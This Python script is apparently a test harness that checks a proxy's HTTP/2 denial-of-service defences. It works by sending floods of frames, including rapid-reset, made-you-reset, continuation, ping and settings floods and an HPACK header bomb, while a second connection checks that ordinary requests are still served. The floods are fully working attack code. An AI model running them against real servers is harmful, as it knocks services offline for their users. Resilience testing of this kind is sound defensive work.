"""A client that speaks HTTP/2 frame by frame: http2.py flood KIND ADDRESS SECONDS

Sends frames of one kind as fast as the connection takes them, until the proxy ends it or the time is over, while
another connection asks for a page again and again. Prints what became of both.
"""
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def text(s):
        n = len(s)
        if n < 127:
            return bytes([n]) + s
        n, out = n - 127, b"\x7f"
        while n >= 128:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n]) + s

    return b"\0" + text(name) + text(value)


def block(method=b"GET", *more):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"shop.test"), *more]
    return b"".join(literal(*f) for f in fields)


def connect(address):
    host, port = address.rsplit(":", 1)
    s = socket.create_connection((host, int(port)))
    s.sendall(PREFACE + frame(4, 0, 0))
    return s


def flood(kind):
    """Endless pieces of the flood."""
    stream = 1
    if kind in ("empty-data", "windows"):
        yield frame(1, 4, 1, block(b"POST"))
    if kind == "continuation":
        yield frame(1, 1, 1, block())
    if kind == "bomb":
        field = literal(b"bomb", b"A" * 3000)
        first = block() + b"\x40" + field[1:]
    while True:
        if kind == "ping":
            yield frame(6, 0, 0, b"12345678") * 100
        elif kind == "settings":
            yield frame(4, 0, 0) * 100
        elif kind == "empty-data":
            yield frame(0, 0, 1) * 100
        elif kind == "windows":
            yield frame(8, 0, 0, b"\0\0\0\1") * 100
        elif kind == "continuation":
            yield frame(9, 0, 1, literal(b"x", b"y" * 1000))
        elif kind == "bomb":
            yield frame(1, 5, stream, (first if stream == 1 else block()) + b"\xbe" * 8000)
            stream += 2
        elif kind == "rapid-reset":
            yield b"".join(
                frame(1, 5, s, block()) + frame(3, 0, s, b"\0\0\0\x08") for s in range(stream, stream + 200, 2)
            )
            stream += 200
        elif kind == "made-you-reset":
            yield b"".join(
                frame(1, 4, s, block(b"POST")) + frame(8, 0, s, b"\x7f\xff\xff\xff") for s in range(stream, stream + 200, 2)
            )
            stream += 200
        elif kind == "bad-trailers":
            many = b"".join(literal(b"a%d" % i, b"b") for i in range(101))
            yield b"".join(
                frame(1, 4, s, block(b"POST")) + frame(1, 5, s, many) for s in range(stream, stream + 40, 2)
            )
            stream += 40
        elif kind == "too-much":
            yield b"".join(
                frame(1, 4, s, block(b"POST")) + frame(0, 0, s, b"x" * 101) for s in range(stream, stream + 200, 2)
            )
            stream += 200
        elif kind == "no-base64":
            text = (b"content-type", b"application/grpc-web-text")
            yield b"".join(
                frame(1, 4, s, block(b"POST", text)) + frame(0, 0, s, b"!!!!") for s in range(stream, stream + 200, 2)
            )
            stream += 200


def goaway(data):
    """The code of the last GOAWAY in a run of frames; None if there is none."""
    code, at = None, 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == 7:
            code = int.from_bytes(data[at + 13 : at + 17], "big")
        at += 9 + length
    return code


def main():
    kind, address, seconds = sys.argv[2], sys.argv[3], float(sys.argv[4])
    stop, asked = threading.Event(), threading.Event()
    served = []

    def neighbour():
        host, port = address.rsplit(":", 1)
        while not stop.is_set():
            with socket.create_connection((host, int(port))) as s:
                s.sendall(b"GET / HTTP/1.1\r\nHost: shop.test\r\nConnection: close\r\n\r\n")
                data = b""
                while part := s.recv(65536):
                    data += part
            served.append(data.startswith(b"HTTP/1.1 200"))
            asked.set()

    thread = threading.Thread(target=neighbour)
    thread.start()
    s = connect(address)
    received = []

    def listen():
        try:
            while part := s.recv(65536):
                received.append(part)
        except OSError:
            pass

    reader = threading.Thread(target=listen)
    reader.start()
    deadline = time.monotonic() + seconds
    ended = "the flood went on to the end"
    try:
        for piece in flood(kind):
            if time.monotonic() > deadline:
                break
            s.sendall(piece)
    except OSError:
        ended = "ended by the proxy"
    if ended != "ended by the proxy":
        s.shutdown(socket.SHUT_RDWR)
    reader.join(10)
    asked.wait(10)
    stop.set()
    thread.join()
    code = goaway(b"".join(received))
    print(f"{kind}: {ended}" + (f", GOAWAY {code}" if code is not None else ""))
    print("neighbour:", "served" if all(served) else f"{served.count(False)} of {len(served)} failed")


if __name__ == "__main__":
    main()
